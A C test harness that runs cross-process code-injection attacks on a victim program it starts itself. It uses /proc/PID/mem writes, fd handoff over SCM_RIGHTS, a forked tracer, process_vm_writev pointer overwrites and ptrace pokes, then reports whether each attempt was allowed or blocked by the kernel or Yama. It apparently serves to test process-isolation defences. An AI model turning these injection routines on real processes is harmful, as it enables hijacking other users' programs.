/* Cross-process code injection, run to its effect.
 *
 * Through /proc/PID/mem:
 *   attack inject VICTIM    a same-uid process that is not a tracer opens
 *                           the victim's mem file and writes the payload
 *                           over the victim's code
 *   attack handoff VICTIM   a tracer opens the mem file and passes the fd
 *                           over SCM_RIGHTS to a process that is not a
 *                           tracer, which writes the payload
 *   attack forkedtracer     the forked-tracer attack:
 *                           a process writes its own read-only text as
 *                           its child's tracee.  It forks, lets the child
 *                           attach (PR_SET_PTRACER, as Yama's scope 1
 *                           wants; without Yama the prctl fails and is
 *                           not needed), the child PTRACE_ATTACHes to its
 *                           parent, opens /proc/PARENT/mem and writes the
 *                           payload over the parent's code, detaches;
 *                           the parent then calls that code.  `ptrace`
 *                           levels allow it by design: only `never` stops
 *                           it.  The parent is the victim here.
 * Without it, by a same-uid process that is neither the victim's tracer
 * nor its ancestor (the victim's sibling: Yama's ptrace_scope 1 lets an
 * ancestor attach, and would let these two through from one):
 *   attack pvwritev VICTIM  process_vm_writev(), which writes only what
 *                           is writable (no FOLL_FORCE): it points the
 *                           victim's code pointer in .data at via_data()
 *                           and the one on its stack at via_stack(),
 *                           code the victim already has, which runs
 *                           win() (writes the marker, exits 42) once
 *                           control has come through both: a model of
 *                           code-reuse injection, since the writable
 *                           memory holds no code to run.  It first tries
 *                           the payload over the victim's text and says
 *                           what the kernel answered (EFAULT: no force).
 *   attack ptrace VICTIM    PTRACE_SEIZE, PTRACE_INTERRUPT, the payload
 *                           over the victim's code with PTRACE_POKETEXT
 *                           (forced, as a tracer's pokes always are),
 *                           PTRACE_DETACH.
 * Both name Yama's ptrace_scope in force (or "no Yama") in their verdict.
 *
 * Victim and attackers run as uid/gid 65534.  The last line is
 * "=> allowed ..." when the payload (pvwritev: win()) ran (the victim
 * exited 42 and the marker file /tmp/compat-pwned says "pwned"), "=> blocked ..." when the
 * write was refused and the victim was still running its own code 300 ms
 * later (no marker), else "=> error ...". */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "scm.h"

#define MARKER "/tmp/compat-pwned"
#define NOBODY 65534

extern const unsigned char payload_start[];
extern const unsigned long payload_size;

static char why[256] = "no error seen";

/* What the victim prints on its first line. */
struct addrs {
	uintptr_t tick;		/* its code, which tick() runs */
	uintptr_t hook;		/* a code pointer in its .data */
	uintptr_t stack;	/* a code pointer on its stack */
	uintptr_t via_data;	/* for hook: win() once both have been called */
	uintptr_t via_stack;	/* for the one on the stack */
};

static void drop_privileges(void)
{
	if (getuid() == 0 && (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) ||
			      setresuid(NOBODY, NOBODY, NOBODY))) {
		perror("attack: drop privileges");
		exit(2);
	}
}

/* A pipe in @p, then fork(); the child's pid (0 in the child). */
static pid_t pipe_fork(int p[2])
{
	pid_t pid;

	if (pipe(p)) {
		perror("attack: pipe");
		exit(2);
	}
	pid = fork();
	if (pid < 0) {
		perror("attack: fork");
		exit(2);
	}
	return pid;
}

/* Start the victim with its stdout on a pipe; return its pid, set *a. */
static pid_t spawn_victim(const char *path, struct addrs *a)
{
	int p[2];
	char line[160];
	FILE *f;
	pid_t pid;

	pid = pipe_fork(p);
	if (pid == 0) {
		drop_privileges();
		dup2(p[1], 1);
		close(p[0]);
		close(p[1]);
		execl(path, path, (char *)NULL);
		_exit(127);
	}
	close(p[1]);
	f = fdopen(p[0], "r");
	if (!f || !fgets(line, sizeof(line), f) ||
	    sscanf(line, "%" SCNxPTR " %" SCNxPTR " %" SCNxPTR " %" SCNxPTR " %" SCNxPTR,
		   &a->tick, &a->hook, &a->stack, &a->via_data, &a->via_stack) != 5) {
		fprintf(stderr, "attack: no addresses from victim\n");
		exit(2);
	}
	fclose(f);
	return pid;
}

/* Write the payload at addr through fd; record why not. */
static int write_payload(int fd, uintptr_t addr)
{
	size_t len = (size_t)payload_size;
	ssize_t n = pwrite(fd, payload_start, len, (off_t)addr);

	if (n == (ssize_t)len)
		return 0;
	snprintf(why, sizeof(why), "write: %s", n < 0 ? strerror(errno) : "short");
	return -1;
}

static int open_mem(pid_t pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR);
	if (fd < 0)
		snprintf(why, sizeof(why), "open: %s", strerror(errno));
	return fd;
}

static int inject(pid_t victim, uintptr_t addr)
{
	int fd = open_mem(victim);

	if (fd < 0)
		return -1;
	int rc = write_payload(fd, addr);
	close(fd);
	return rc;
}

/* The tracer attaches and opens; a forked helper, which is not a tracer,
 * receives the fd and writes; then the tracer lets the victim go. */
static int handoff(pid_t victim, uintptr_t addr)
{
	int sv[2], st, fd;
	pid_t writer;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) {
		perror("attack: socketpair");
		exit(2);
	}
	writer = fork();
	if (writer == 0) {
		close(sv[0]);
		fd = recv_fd(sv[1]);
		if (fd < 0) {
			fprintf(stderr, "attack: writer got no fd\n");
			_exit(3);
		}
		/* Tell the tracer how it went: "ok" or the reason. */
		if (write_payload(fd, addr) == 0)
			strcpy(why, "ok");
		if (write(sv[1], why, strlen(why)) < 0)
			_exit(1);
		_exit(0);
	}
	close(sv[1]);
	if (ptrace(PTRACE_ATTACH, victim, 0, 0) || waitpid(victim, &st, 0) != victim) {
		snprintf(why, sizeof(why), "attach: %s", strerror(errno));
		kill(writer, SIGKILL);
		waitpid(writer, NULL, 0);
		return -1;
	}
	fd = open_mem(victim);
	if (fd >= 0) {
		char said[sizeof(why)] = "";

		send_fd(sv[0], fd);
		close(fd);
		if (read(sv[0], said, sizeof(said) - 1) <= 0)
			strcpy(said, "writer said nothing");
		snprintf(why, sizeof(why), "%s%s", strcmp(said, "ok") ? "writer's " : "", said);
	} else {
		kill(writer, SIGKILL);
	}
	close(sv[0]);
	waitpid(writer, &st, 0);
	ptrace(PTRACE_DETACH, victim, 0, 0);
	return fd >= 0 && strcmp(why, "ok") == 0 ? 0 : -1;
}

static int marker_says_pwned(void)
{
	char buf[16] = "";
	int fd = open(MARKER, O_RDONLY);

	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return n > 0 && strcmp(buf, "pwned\n") == 0;
}

/*
 * The forked-tracer attack's target: a page of its own in the text, so
 * that the payload written over it overwrites no other code.
 */
__asm__(".pushsection .text.forkedtracer, \"ax\", @progbits\n"
	".p2align 12\n"
	"forkedtracer_tick: ret\n"
	".fill 4095, 1, 0xcc\n"
	".popsection\n");
extern void forkedtracer_tick(void);

static ssize_t read_full(int fd, void *buf, size_t len)
{
	ssize_t n;

	do
		n = read(fd, buf, len);
	while (n < 0 && errno == EINTR);
	return n;
}

/* The child: attach to the parent, write the payload over its tick, detach. */
static _Noreturn void forked_tracer(pid_t parent, int go, int said)
{
	uintptr_t addr = (uintptr_t)forkedtracer_tick;
	char c;
	int st, fd;

	if (read_full(go, &c, 1) != 1)
		_exit(3);
	if (ptrace(PTRACE_ATTACH, parent, 0, 0) || waitpid(parent, &st, __WALL) != parent) {
		snprintf(why, sizeof(why), "attach: %s", strerror(errno));
	} else {
		fd = open_mem(parent);
		if (fd >= 0) {
			if (write_payload(fd, addr) == 0)
				strcpy(why, "ok");
			close(fd);
		}
		ptrace(PTRACE_DETACH, parent, 0, 0);
	}
	if (write(said, why, strlen(why)) < 0)
		_exit(1);
	_exit(0);
}

/*
 * The parent, as uid 65534: lets its child attach and write, then calls
 * its tick a few times (the payload exits 42 from there); writes why not
 * to @report and exits 0.
 */
static _Noreturn void forkedtracer(int report)
{
	void (*volatile tick)(void) = forkedtracer_tick;
	const struct timespec pause = { 0, 20 * 1000 * 1000 };
	int go[2], said[2];
	char heard[sizeof(why)] = "";
	pid_t child;

	/* A process that dropped privileges is not dumpable until told. */
	if (prctl(PR_SET_DUMPABLE, 1) || pipe(go) || pipe(said)) {
		perror("attack: forkedtracer setup");
		_exit(2);
	}
	child = fork();
	if (child < 0) {
		perror("attack: fork");
		_exit(2);
	}
	if (child == 0) {
		close(go[1]);
		close(said[0]);
		forked_tracer(getppid(), go[0], said[1]);
	}
	close(go[0]);
	close(said[1]);
	/* Yama scope 1 lets only a declared process attach; no Yama: EINVAL. */
	if (prctl(PR_SET_PTRACER, child, 0, 0, 0) && errno != EINVAL) {
		perror("attack: PR_SET_PTRACER");
		_exit(2);
	}
	if (write(go[1], "", 1) != 1 || read_full(said[0], heard, sizeof(heard) - 1) <= 0)
		strcpy(heard, "the child said nothing");
	waitpid(child, NULL, 0);
	for (int i = 0; i < 10; i++) {
		tick();
		nanosleep(&pause, NULL);
	}
	/* still here: the payload did not run */
	snprintf(why, sizeof(why), "%s%s", strcmp(heard, "ok") ? "child's " : "", heard);
	if (write(report, why, strlen(why)) < 0)
		_exit(1);
	_exit(0);
}

/* Run the forked-tracer attack in a process of its own: its verdict line. */
static int run_forkedtracer(void)
{
	char heard[sizeof(why)] = "";
	int p[2], st;
	pid_t pid;

	if (pipe(p)) {
		perror("attack: pipe");
		return 2;
	}
	pid = fork();
	if (pid < 0) {
		perror("attack: fork");
		return 2;
	}
	if (pid == 0) {
		close(p[0]);
		drop_privileges();
		forkedtracer(p[1]);
	}
	close(p[1]);
	if (read_full(p[0], heard, sizeof(heard) - 1) < 0)
		strcpy(heard, "read");
	if (waitpid(pid, &st, 0) != pid) {
		perror("attack: waitpid");
		return 2;
	}
	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
		printf("=> allowed: payload ran in the parent, written by its child as its tracer\n");
	else if (WIFEXITED(st) && WEXITSTATUS(st) == 0 && heard[0] && !marker_says_pwned())
		printf("=> blocked: %s\n", heard);
	else
		printf("=> error: parent status %#x, %s\n", st, heard[0] ? heard : "nothing said");
	return 0;
}

/* ---- without /proc/PID/mem: process_vm_writev() and ptrace ---- */

/* Yama's ptrace_scope in force, as the verdicts name it. */
static const char *yama_scope(void)
{
	static char s[40];
	char b[8] = "";
	int fd = open("/proc/sys/kernel/yama/ptrace_scope", O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return "no Yama";
	n = read(fd, b, sizeof(b) - 1);
	close(fd);
	b[n > 0 ? n : 0] = '\0';
	b[strcspn(b, "\n")] = '\0';
	snprintf(s, sizeof(s), "Yama ptrace_scope=%s", b[0] ? b : "?");
	return s;
}

static int pv_write(pid_t pid, uintptr_t addr, const void *buf, size_t len)
{
	struct iovec local = { (void *)(uintptr_t)buf, len }, remote = { (void *)addr, len };
	ssize_t n = process_vm_writev(pid, &local, 1, &remote, 1, 0);

	if (n == (ssize_t)len)
		return 0;
	snprintf(why, sizeof(why), "process_vm_writev: %s", n < 0 ? strerror(errno) : "short");
	return -1;
}

/*
 * The payload over the victim's text (refused: no FOLL_FORCE), then its
 * two code pointers: 0 both written, -1 neither, 1 only the first.
 */
static int pvwritev(pid_t victim, const struct addrs *a)
{
	char text[sizeof(why)];

	if (pv_write(victim, a->tick, payload_start, (size_t)payload_size) == 0) {
		snprintf(why, sizeof(why), "process_vm_writev wrote the payload over its text");
		return 0;
	}
	snprintf(text, sizeof(text), "%s", why);
	if (pv_write(victim, a->hook, &a->via_data, sizeof(a->via_data)))
		return -1;
	if (pv_write(victim, a->stack, &a->via_stack, sizeof(a->via_stack)))
		return 1;
	snprintf(why, sizeof(why), "the payload over its text: %.160s",
		 strchr(text, ':') ? strchr(text, ':') + 2 : text);
	return 0;
}

/* PTRACE_SEIZE, stop it, poke the payload over its text, detach. */
static int poke(pid_t victim, const struct addrs *a)
{
	size_t len = (size_t)payload_size;
	int st, rc = 0;

	if (ptrace(PTRACE_SEIZE, victim, 0, 0)) {
		snprintf(why, sizeof(why), "PTRACE_SEIZE: %s", strerror(errno));
		return -1;
	}
	if (ptrace(PTRACE_INTERRUPT, victim, 0, 0) || waitpid(victim, &st, __WALL) != victim) {
		snprintf(why, sizeof(why), "PTRACE_INTERRUPT: %s", strerror(errno));
		ptrace(PTRACE_DETACH, victim, 0, 0);
		return -1;
	}
	for (size_t off = 0; off < len && !rc; off += sizeof(long)) {
		size_t k = len - off < sizeof(long) ? len - off : sizeof(long);
		long word = 0;

		if (k < sizeof(long)) {	/* the last word: keep what follows */
			errno = 0;
			word = ptrace(PTRACE_PEEKTEXT, victim, a->tick + off, 0);
			if (errno) {
				snprintf(why, sizeof(why), "PTRACE_PEEKTEXT: %s", strerror(errno));
				rc = -1;
				break;
			}
		}
		memcpy(&word, payload_start + off, k);
		if (ptrace(PTRACE_POKETEXT, victim, a->tick + off, word)) {
			snprintf(why, sizeof(why), "PTRACE_POKETEXT: %s", strerror(errno));
			rc = -1;
		}
	}
	if (ptrace(PTRACE_DETACH, victim, 0, 0) && !rc) {
		snprintf(why, sizeof(why), "PTRACE_DETACH: %s", strerror(errno));
		rc = -1;
	}
	if (!rc)
		snprintf(why, sizeof(why), "payload poked over its text, detached");
	return rc;
}

/*
 * Run the attack in a child of ours, the victim's sibling, so that the
 * attacker is neither its tracer nor its ancestor; its why[] comes back
 * over a pipe.  0: it says the writes were done, -1 refused, 1 some were
 * (pvwritev), 2 it failed otherwise.
 */
static int as_sibling(const char *mode, pid_t victim, const struct addrs *a)
{
	char said[sizeof(why)] = "";
	int p[2], st;
	pid_t pid;

	pid = pipe_fork(p);
	if (pid == 0) {
		int rc;

		close(p[0]);
		rc = strcmp(mode, "ptrace") ? pvwritev(victim, a) : poke(victim, a);
		if (write(p[1], why, strlen(why)) < 0)
			_exit(1);
		_exit(rc < 0 ? 3 : rc ? 4 : 0);
	}
	close(p[1]);
	if (read_full(p[0], said, sizeof(said) - 1) <= 0)
		strcpy(said, "the attacker said nothing");
	close(p[0]);
	if (waitpid(pid, &st, 0) != pid) {
		perror("attack: waitpid");
		exit(2);
	}
	snprintf(why, sizeof(why), "%s", said);
	if (!WIFEXITED(st))
		return 2;
	return WEXITSTATUS(st) == 0 ? 0 : WEXITSTATUS(st) == 3 ? -1 : WEXITSTATUS(st) == 4 ? 1 : 2;
}

/*
 * attack pvwritev|ptrace VICTIM, by a sibling of the victim.  Judged as
 * the attacks through the mem file are: the victim exited 42 with the
 * marker written, or the writes were refused and it still runs its own
 * code 300 ms later (killed by our SIGTERM), no marker.
 */
static int sibling_attack(const char *mode, const char *path)
{
	const struct timespec pause = { 0, 300 * 1000 * 1000 };
	struct addrs a;
	pid_t victim;
	int rc, st;

	victim = spawn_victim(path, &a);
	drop_privileges();
	rc = as_sibling(mode, victim, &a);
	if (rc) {
		nanosleep(&pause, NULL);
		kill(victim, SIGTERM);
	}
	if (waitpid(victim, &st, 0) != victim) {
		perror("attack: waitpid");
		return 2;
	}
	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned() &&
	    (!strcmp(mode, "ptrace") || !strncmp(why, "process_vm_writev wrote", 23)))
		printf("=> allowed: the payload ran in the victim: %s (%s)\n", why, yama_scope());
	else if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
		printf("=> allowed: win() ran once control came through the code pointer in .data and the one on the stack; %s (%s)\n",
		       why, yama_scope());
	else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGTERM && rc < 0 && !marker_says_pwned())
		printf("=> blocked: %s (%s)\n", why, yama_scope());
	else
		printf("=> error: victim status %#x, %s%s (%s)\n", st, rc == 1 ? "one pointer written, then " : "",
		       why, yama_scope());
	return 0;
}

int main(int argc, char **argv)
{
	struct addrs a;
	pid_t victim;
	int st, rc;

	if (!(argc == 2 && !strcmp(argv[1], "forkedtracer")) &&
	    !(argc == 3 && (!strcmp(argv[1], "inject") || !strcmp(argv[1], "handoff") ||
			    !strcmp(argv[1], "pvwritev") || !strcmp(argv[1], "ptrace")))) {
		fprintf(stderr, "usage: attack inject|handoff|pvwritev|ptrace VICTIM | attack forkedtracer\n");
		return 2;
	}
	if (unlink(MARKER) && errno != ENOENT) {
		perror("attack: " MARKER);
		return 2;
	}
	if (argc == 2)
		return run_forkedtracer();
	if (!strcmp(argv[1], "pvwritev") || !strcmp(argv[1], "ptrace"))
		return sibling_attack(argv[1], argv[2]);
	victim = spawn_victim(argv[2], &a);
	drop_privileges();
	rc = strcmp(argv[1], "inject") ? handoff(victim, a.tick) : inject(victim, a.tick);
	if (rc == 0) {
		snprintf(why, sizeof(why), "payload written at %#" PRIxPTR, a.tick);
	} else {
		/* Refused: let the victim tick a while longer, then stop it.  It
		 * must still be alive (killed by our SIGTERM), with no marker. */
		const struct timespec pause = { 0, 300 * 1000 * 1000 };

		nanosleep(&pause, NULL);
		kill(victim, SIGTERM);
	}
	if (waitpid(victim, &st, 0) != victim) {
		perror("attack: waitpid");
		return 2;
	}
	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
		printf("=> allowed: payload ran in the victim (%s)\n", why);
	else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGTERM && rc && !marker_says_pwned())
		printf("=> blocked: %s\n", why);
	else
		printf("=> error: victim status %#x, %s\n", st, why);
	return 0;
}
